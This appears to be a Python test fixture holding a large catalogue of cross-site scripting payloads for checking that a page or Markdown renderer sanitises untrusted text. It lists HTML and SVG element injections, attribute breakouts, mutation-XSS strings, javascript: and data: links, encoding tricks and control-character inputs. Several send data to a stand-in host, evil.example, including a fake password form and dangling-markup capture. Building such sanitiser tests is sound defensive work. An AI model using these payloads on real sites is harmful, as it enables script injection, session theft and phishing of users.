"""Texts that are code to a page that is careless with them.

What runs calls `pwned`, or `alert`; what loads asks for `/pwned`, here or at evil.example: both are watched for
(tests/browser/watch.py). Control characters and look-alikes are written as escapes.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Payload:
    text: str
    family: str


_IMG = "<img src=/pwned onerror=pwned(1)>"
_AWAY = "https://evil.example/pwned"

# A page that took these for HTML would show an element of theirs, most of them at once with its code run.
_ELEMENTS = [
    "<script>pwned(1)</script>",
    "<ScRiPt >pwned(1)</sCrIpT\t>",
    f"<script src={_AWAY}.js></script>",
    "<script\x0ctype=module>pwned(1)</script>",
    "<scr<script>ipt>pwned(1)</scr</script>ipt>",
    _IMG,
    "<img/src=/pwned/onerror=pwned(1)>",
    "<IMG SRC=`/pwned` ONERROR\n=\tpwned(1)>",
    "<img src=/pwned onerror=&#112;&#119;ned(1)>",
    f"<img srcset='{_AWAY} 1x, /pwned 2x'>",
    f"<<b><image href=x src={_AWAY}>",
    f"<picture><source srcset={_AWAY}><img></picture>",
    "<svg onload=pwned(1)>",
    "<svg><svg onload=pwned(1)>",
    "<svg><script>pwned(1)</script></svg>",
    "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned(1)><text x=9 y=20>more</text></a></svg>",
    f"<svg><use href='{_AWAY}.svg#a'></use><image href={_AWAY}></svg>",
    f"<svg><foreignObject><iframe src={_AWAY}></iframe></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned(1)>more</maction></math>",
    "<math href=javascript:pwned(1)><mi>x</mi></math>",
    "<iframe src=javascript:parent.pwned(1)></iframe>",
    "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.pwned(1)</script>'></iframe>",
    f"<object data={_AWAY}></object>",
    f"<embed src={_AWAY}>",
    f"<frameset><frame src={_AWAY}></frameset><portal src={_AWAY}></portal>",
    f"<base href={_AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<link rel=stylesheet href={_AWAY}.css>",
    f"<link rel=prefetch href={_AWAY}><link rel=icon href={_AWAY}>",
    f"<style>@import '{_AWAY}.css'; * {{ background: url({_AWAY}) }}</style>",
    f"<p style='background: url({_AWAY}); position: fixed; inset: 0'>Sign in again</p>",
    f"<div style=\"list-style-image: image-set('{_AWAY}' 1x)\">x</div>",
    f"<form action={_AWAY}><input name=password><button>Go on</button></form>",
    "<form><button formaction=javascript:pwned(1)>Go on</button></form>",
    "<input autofocus onfocus=pwned(1)>",
    "<textarea autofocus onfocus=pwned(1)></textarea>",
    "<details open ontoggle=pwned(1)><summary>more</summary></details>",
    "<audio src=/pwned onerror=pwned(1)></audio>",
    "<video poster=/pwned><source onerror=pwned(1) src=/pwned></video>",
    "<marquee onstart=pwned(1)>x</marquee>",
    "<p contenteditable onbeforeinput=pwned(1) oncut=pwned(1)>x</p>",
    "<p style=animation:x onanimationstart=pwned(1) onmouseover=pwned(1)>x</p>",
    "<p popover id=over onbeforetoggle=pwned(1)>x</p><button popovertarget=over>more</button>",
    "<dialog open onclose=pwned(1)><form method=dialog><button>x</button></form></dialog>",
    "<template shadowrootmode=open><img src=/pwned onerror=pwned(1)></template>",
    f"<a href={_AWAY} ping={_AWAY} target=_top>more</a>",
    "<a href='java&#09;script:pwned(1)'>more</a>",
    "<a id=document><a id=document name=body href=/pwned>x</a>",
    "<form id=ask><input name=requestSubmit><input id=question></form>",
    "<img name=getElementById id=log><img name=querySelector>",
    "<input type=image src=/pwned onerror=pwned(1)>",
    "<slot name=x onslotchange=pwned(1)></slot><x-unknown is=x onclick=pwned(1)>x</x-unknown>",
]

# Harmless to the first parser, or within an attribute; something else once it is written out and read again.
_SECOND_READINGS = [
    f"<img src={_AWAY}?q=",  # dangling: takes with it what follows
    '"><img src=/pwned onerror=pwned(1)>',
    "'><svg onload=pwned(1)>",
    '" autofocus onfocus="pwned(1)" x="',
    "' onmouseover='pwned(1)' x='",
    "x onfocus=pwned(1) autofocus tabindex=1 y=",
    f"</p></div></section></template>{_IMG}",
    f"</title></textarea></style></noscript></xmp></iframe>{_IMG}",
    "</script><script>pwned(1)</script>",
    f"--><!--><img src=/pwned onerror=pwned(1)>-->{_IMG}",
    f"]]>{_IMG}<![CDATA[",
    f"<noscript><p title='</noscript>{_IMG}'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMG}'>",
    f"<svg></p><style><a id='</style>{_IMG}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    f"<!--[if gte IE 4]>{_IMG}<![endif]-->",
    f"<?xml-stylesheet href='{_AWAY}'?>{_IMG}",
    "&lt;img src=/pwned onerror=pwned(1)&gt;",
    "&#60;img src=/pwned onerror=pwned(1)&#62;",
    "&amp;lt;img src=/pwned onerror=pwned(1)&amp;gt;",
    "\\u003cimg src=/pwned onerror=pwned(1)\\u003e \\x3cscript\\x3epwned(1)\\x3c/script\\x3e",
    "%3Cimg%20src%3D/pwned%20onerror%3Dpwned(1)%3E",
    "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-",
    "\uff1cimg src=/pwned onerror=pwned(1)\uff1e",
    "{{constructor.constructor('pwned(1)')()}} {{ 7 * 7 }} {% raw %}",
    "${pwned(1)} `${pwned(1)}` #{pwned(1)} <%= pwned(1) %> $(pwned) @{pwned(1)}",
    "'-pwned(1)-' \"+pwned(1)+\" ;pwned(1)// */pwned(1)/*",
    "__proto__ constructor toString hasOwnProperty",
    "data: x\n\nevent: turn\ndata: {}\n\nevent: error",
]

# What a careless Markdown makes a link, an image or markup of.
_MARKDOWN = [
    "[more](javascript:pwned(1))",
    "[more](JaVaScRiPt:pwned(1))",
    "[more]( javascript:pwned(1) )",
    "[more](<javascript:pwned(1)>)",
    "[more](\x01javascript:pwned(1))",
    "[more](java\tscript:pwned(1))",
    "[more](java\nscript:pwned(1))",
    "[more](java&#10;script:pwned(1))",
    "[more](javascript&colon;pwned(1))",
    "[more](&#x6A;avascript:pwned(1))",
    "[more](javascript%3Apwned(1))",
    "[more](\u200bjavascript:pwned(1)) [more](java\u00adscript:pwned(1))",
    "[more](javascript\u2028:pwned(1)) [more](\u202ejavascript:pwned(1))",
    f"[more](javascript:https://evil.example/%0Apwned(1)) javascript://{_AWAY}/%0Apwned(1)",
    "[more](data:text/html,<script>pwned(1)</script>)",
    "[more](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)",
    "[more](vbscript:pwned) [more](VBSCRIPT:pwned)",
    "[more](blob:https://evil.example/pwned) [more](filesystem:https://evil.example/pwned)",
    "[more](file:///etc/hostname) [more](view-source:https://evil.example) [more](about:blank)",
    "[more](intent://pwned#Intent;scheme=http;end) [more](ms-word:ofe|u|https://evil.example)",
    "[more](//evil.example/pwned) [more](\\\\evil.example\\pwned) [more](/pwned) [more](?pwned)",
    '[more](https://evil.example/"onmouseover="pwned(1)) [more](https://evil.example "a" onclick=pwned(1))',
    f"[{_IMG}]({_AWAY})",
    f"[more]({_AWAY}?<img/src=/pwned/onerror=pwned(1)>)",
    "[more](mailto:a@evil.example?subject=<script>pwned(1)</script>)",
    '[more](tel:"onfocus=pwned(1)) [more](mailto:"><img/src=/pwned/onerror=pwned(1)>)',
    "[more](https://[::1]:99999/pwned) [more](https://%00/) [more](https:evil.example)",
    f"![more]({_AWAY}) ![more](/pwned) ![more][1] ![](javascript:pwned(1))\n\n[1]: {_AWAY}",
    f"[![more]({_AWAY})](javascript:pwned(1))",
    "[more][1] and [1]\n\n[1]: javascript:pwned(1) 'more'",
    f"<javascript:pwned(1)> <{_AWAY}> <data:text/html,x>",
    f"**[more](javascript:pwned(1))** *[more](javascript:pwned(1))* ~~{_IMG}~~",
    f"`{_IMG}` ``{_IMG}``",
    f"```html\n{_IMG}\n```\n~~~{_IMG}\n~~~",
    f"# {_IMG}\n## [more](javascript:pwned(1)) ##",
    f"- {_IMG}\n  - <svg onload=pwned(1)>\n    [more](javascript:pwned(1))\n1. {_IMG}",
    f"> {_IMG}\n> > [more](javascript:pwned(1))",
    f"| {_IMG} | b |\n|---|---|\n| [more](javascript:pwned(1)) | c |",
    f"{_AWAY}/<script>pwned(1)</script> {_AWAY}\"onclick='pwned(1)' {_AWAY}`{_IMG}`",
    'a"onmouseover="pwned(1)"@evil.example <a@evil.example onclick=pwned(1)>',
    f"+353 91 555 0142{_IMG} +1(800)<script>pwned(1)</script>555",
    f"\\[more\\]\\(javascript:pwned(1)\\) \\{_IMG} \\`{_IMG}\\`",
    f"<b>**bold {_IMG}**</b> __{_IMG}__ [[more](javascript:pwned(1))](javascript:pwned(1))",
    f"[^1]: {_IMG}\n\n*[HTML]: {_IMG}\n\n$$\\href{{javascript:pwned(1)}}{{x}}$$ :::{{.x onclick=pwned(1)}}",
]

# Not code, but what upsets programs that read text.
_ODD = [
    f"\u202e{_IMG}\u202c \u2066{_IMG}\u2069 \u200f[more](javascript:pwned(1))",
    "<\u200bimg src=/pwned onerror=pwned(1)> \ufeff<script>pwned(1)</script>",
    "<img\x00 src=/pwned onerror=pwned(1)> <scr\x00ipt>pwned(1)</scr\x00ipt> java\x00script:pwned(1)",
    "\x1b[31m\x08\x7f\x9b<script>pwned(1)</script>\x0b\x0c",
    "\ufffd\ufffe\U0001f469\u200d\U0001f4bb e\u0301\u0301\u0301\u0301" + "\u0336" * 40 + _IMG,
    _IMG * 60,
    "<b>" * 400 + _IMG,
    "[more](" + "(" * 900 + "javascript:pwned(1)" + ")" * 900,
    "**" * 900 + _IMG,
    "[" * 900 + "](javascript:pwned(1))",
    "a" * 1900 + "@",
    "".join(f"{'  ' * depth}- {_IMG[:24]}\n" for depth in range(40)),
]

PAYLOADS = [
    Payload(text, family)
    for family, texts in (
        ("element", _ELEMENTS),
        ("second reading", _SECOND_READINGS),
        ("Markdown", _MARKDOWN),
        ("odd", _ODD),
    )
    for text in texts
]
